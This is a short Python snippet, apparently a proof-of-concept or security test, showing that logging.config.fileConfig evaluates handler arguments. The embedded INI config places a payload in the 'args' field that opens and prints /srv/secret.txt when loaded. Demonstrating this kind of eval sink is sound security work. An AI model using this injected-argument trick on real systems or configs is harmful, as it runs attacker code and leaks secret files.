# reaches: logging.config.fileConfig evaluates handler arguments
import io, logging.config
text = """[loggers]
keys=root
[handlers]
keys=h
[formatters]
keys=
[logger_root]
handlers=h
[handler_h]
class=StreamHandler
args=(print(open('/srv/secret.txt').read()),)
"""
logging.config.fileConfig(io.StringIO(text))
